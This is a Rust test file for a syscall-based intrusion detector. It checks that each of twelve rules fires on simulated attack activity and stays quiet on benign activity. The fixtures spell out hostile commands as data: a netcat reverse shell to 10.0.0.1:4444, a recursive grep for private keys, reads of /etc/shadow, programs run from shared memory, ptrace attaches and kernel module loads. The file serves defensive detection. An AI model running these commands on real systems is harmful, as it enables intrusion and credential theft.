//! The built-in syscall rules: all compile, all carry an id, each fires on the activity it
//! describes (captures written here) and not on ordinary activity.

use super::*;
use crate::SyscallEvent;

fn rules() -> Ruleset {
    syscall_loader().compile().unwrap()
}

/// A capture line: `ty` returning `res`, by `proc` (name, exepath, args), with extra members.
fn line(ty: &str, res: i64, name: &str, exepath: &str, args: &[&str], extra: &str) -> SyscallEvent {
    let args: Vec<String> = args.iter().map(|a| format!("{a:?}")).collect();
    let text = format!(
        r#"{{"kind":"SyscallEvent","ts":1700000000000000000,"type":"{ty}","res":{res},
        "proc":{{"pid":100,"ppid":99,"name":"{name}","exe":"{name}","exepath":"{exepath}","args":[{}],"uid":0,"user":"root","tty":0}},
        "ancestors":[{{"pid":99,"name":"bash","exe":"bash","exepath":"/bin/bash","args":[]}}]{extra}}}"#,
        args.join(",")
    );
    SyscallEvent::parse_line(&text.replace('\n', " ")).unwrap()
}

const IN_POD: &str = r#","container":{"id":"0123456789ab","image":"docker.io/library/alpine:3.20"},"k8s":{"ns":"shop","pod":"cart-1"}"#;

fn fired(event: &SyscallEvent) -> Vec<String> {
    rules().evaluate_syscall(event).into_iter().map(|a| a.rule.name.clone()).collect()
}

#[test]
fn every_rule_compiles_and_has_an_id() {
    let rules = rules();
    let stats = rules.stats();
    assert!(stats.syscall_unsupported.is_empty(), "{:?}", stats.syscall_unsupported);
    assert_eq!(stats.syscall_rules, 12);
    let mut ids: Vec<String> = rules
        .rules()
        .map(|r| r.tags.iter().find(|t| t.starts_with("KSO-Y")).cloned().expect("id tag"))
        .collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 12, "ids are unique");
}

#[test]
fn shadow_read_fires_and_ordinary_reads_do_not() {
    let open = |name: &str, file: &str, flags: &str| {
        let extra = format!(
            r#","args":{{"name":"{file}","flags":"{flags}"}},"fd":{{"num":3,"type":"file","name":"{file}"}}{IN_POD}"#
        );
        line("openat", 3, name, &format!("/bin/{name}"), &[file], &extra)
    };
    assert_eq!(
        fired(&open("cat", "/etc/shadow", "O_RDONLY")),
        ["Credential file read by an unexpected program"]
    );
    let alert = &rules().evaluate_syscall(&open("cat", "/etc/shadow", "O_RDONLY"))[0];
    assert!(alert.output.contains("/etc/shadow read by cat"), "{}", alert.output);
    assert!(alert.output.contains("image=docker.io/library/alpine"), "{}", alert.output);
    assert!(fired(&open("cat", "/etc/sudoers.d/admins", "O_RDONLY|O_CLOEXEC")).len() == 1);
    assert!(fired(&open("cat", "/etc/passwd", "O_RDONLY")).is_empty());
    assert!(fired(&open("unix_chkpwd", "/etc/shadow", "O_RDONLY")).is_empty());
    assert!(fired(&open("cat", "/etc/shadow", "O_WRONLY")).is_empty());
}

#[test]
fn process_rules() {
    let exec = |name: &str, exepath: &str, args: &[&str]| line("execve", 0, name, exepath, args, IN_POD);
    assert_eq!(
        fired(&exec("nc", "/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"])),
        ["Netcat started with a program to run"]
    );
    assert!(fired(&exec("nc", "/usr/bin/nc", &["-z", "10.0.0.1", "80"])).is_empty());
    assert_eq!(fired(&exec("grep", "/bin/grep", &["-r", "BEGIN PRIVATE", "/"])), ["Search for private keys"]);
    assert!(fired(&exec("grep", "/bin/grep", &["-r", "TODO", "/src"])).is_empty());
    assert_eq!(fired(&exec("x", "/dev/shm/x", &[])), ["Program run from shared memory"]);
    assert!(fired(&exec("ls", "/bin/ls", &["-l"])).is_empty());
    let mut memfd = exec("3", "memfd:payload", &[]);
    memfd.proc.exe_from_memfd = Some(true);
    assert_eq!(fired(&memfd), ["Program run from an anonymous memory file"]);
    memfd.proc.name = "runc".into();
    assert!(fired(&memfd).is_empty());
    let mut shell = exec("bash", "/bin/bash", &[]);
    assert!(fired(&shell).is_empty(), "no terminal");
    shell.proc.tty = 34816;
    assert_eq!(fired(&shell), ["Shell with a terminal in a container"]);
    shell.container = None;
    assert!(fired(&shell).is_empty(), "on the host");
}

#[test]
fn kernel_and_namespace_rules() {
    let call = |ty: &str, res: i64, extra: &str| line(ty, res, "evil", "/tmp/evil", &[], extra);
    assert_eq!(fired(&call("finit_module", 0, "")), ["Kernel module loaded"]);
    assert!(fired(&call("finit_module", -1, "")).is_empty());
    assert_eq!(fired(&call("setns", 0, IN_POD)), ["Namespace change inside a container"]);
    assert!(fired(&call("setns", 0, "")).is_empty(), "host processes change namespaces routinely");
    assert_eq!(fired(&call("bpf", 3, IN_POD)), ["BPF program loaded from a container"]);
    assert_eq!(fired(&call("mount", 0, IN_POD)), ["File system mounted inside a container"]);
    let ptrace = format!(r#","args":{{"request":"PTRACE_ATTACH","pid":"1"}}{IN_POD}"#);
    assert_eq!(fired(&call("ptrace", 0, &ptrace)), ["Process attached to another with ptrace"]);
    let traceme = r#","args":{"request":"PTRACE_TRACEME"}"#;
    assert!(fired(&call("ptrace", 0, traceme)).is_empty());
    let link = r#","args":{"target":"/etc/shadow","linkpath":"/tmp/s"}"#;
    assert_eq!(fired(&call("symlinkat", 0, link)), ["Link created to a credential file"]);
}
